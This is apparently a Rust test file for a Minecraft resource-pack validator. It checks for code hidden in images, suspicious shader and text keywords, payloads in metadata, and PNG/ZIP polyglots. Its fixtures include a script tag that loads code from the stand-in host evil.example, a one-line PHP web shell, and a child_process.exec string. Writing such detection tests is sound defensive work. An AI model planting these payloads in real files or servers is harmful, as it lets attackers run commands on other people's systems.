//! Content-aware scanning: scripts hidden in images, shader keywords,
//! metadata payloads, polyglots.

mod common;

use common::{PackBuilder, PNG};
use packcheck_core::{ValidationPolicy, Validator, ViolationClass, ViolationKind};

fn kinds(result: &packcheck_core::ValidationResult) -> Vec<ViolationKind> {
    result.violations.iter().map(|v| v.kind).collect()
}

#[test]
fn test_script_tail_in_png_is_embedded_code() {
    let mut image = PNG.to_vec();
    image.extend_from_slice(b"\x00\x00<script src=//evil.example/x.js></script>");
    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/textures/gui/title.png", &image)
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert_eq!(kinds(&result), vec![ViolationKind::EmbeddedCode]);
    assert_eq!(result.violations[0].class(), ViolationClass::Security);
}

#[test]
fn test_php_in_fake_jpeg_reports_both_problems() {
    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/textures/a.jpg", b"<?php system($_GET['c']); ?>")
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert_eq!(
        kinds(&result),
        vec![ViolationKind::InvalidImage, ViolationKind::EmbeddedCode]
    );
}

#[test]
fn test_valid_jpeg_bmp_tga() {
    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00".to_vec();
    jpeg.extend_from_slice(b"\xff\xd9");

    let mut bmp = vec![0u8; 64];
    bmp[..2].copy_from_slice(b"BM");
    bmp[2..6].copy_from_slice(&64u32.to_le_bytes());

    let mut tga = vec![0u8; 32];
    tga[2] = 10;

    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/textures/a.jpeg", &jpeg)
        .file("assets/minecraft/textures/b.bmp", &bmp)
        .file("assets/minecraft/textures/c.tga", &tga)
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert!(result.is_valid(), "{:?}", result.messages());
}

#[test]
fn test_shader_with_keyword_is_suspicious() {
    let bytes = PackBuilder::minimal()
        .file(
            "assets/minecraft/shaders/core/rendertype_solid.fsh",
            b"#version 150\n// spawn helper\nvoid main() {}\n",
        )
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert_eq!(kinds(&result), vec![ViolationKind::SuspiciousContent]);
}

#[test]
fn test_non_utf8_text_is_still_scanned() {
    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/texts/splashes.txt", b"\xff\xfe eval \xc3\x28")
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert_eq!(kinds(&result), vec![ViolationKind::SuspiciousContent]);
}

#[test]
fn test_nested_metadata_payload() {
    let meta = br#"{"pack":{"pack_format":15,"description":["ok",{"text":"child_process.exec(cmd)"}]}}"#;
    let bytes = PackBuilder::new()
        .file("pack.mcmeta", meta)
        .dir("assets/")
        .build();
    let result = Validator::default().validate_bytes(&bytes);
    assert_eq!(kinds(&result), vec![ViolationKind::SuspiciousMetadata]);
}

#[test]
fn test_ogg_is_opaque() {
    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/sounds/x.ogg", b"OggS<script> not inspected")
        .build();
    assert!(Validator::default().validate_bytes(&bytes).is_valid());
}

#[test]
fn test_polyglot_png_zip() {
    let mut image = PNG.to_vec();
    image.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00");
    let bytes = PackBuilder::minimal()
        .file("assets/minecraft/textures/x.png", &image)
        .build();

    assert!(Validator::default().validate_bytes(&bytes).is_valid());

    let policy = ValidationPolicy {
        detect_polyglots: true,
        ..Default::default()
    }
    .compile()
    .unwrap();
    let result = Validator::new(policy).validate_bytes(&bytes);
    assert_eq!(kinds(&result), vec![ViolationKind::PolyglotFile]);
    assert!(result.messages()[0].contains("ZIP"));
}
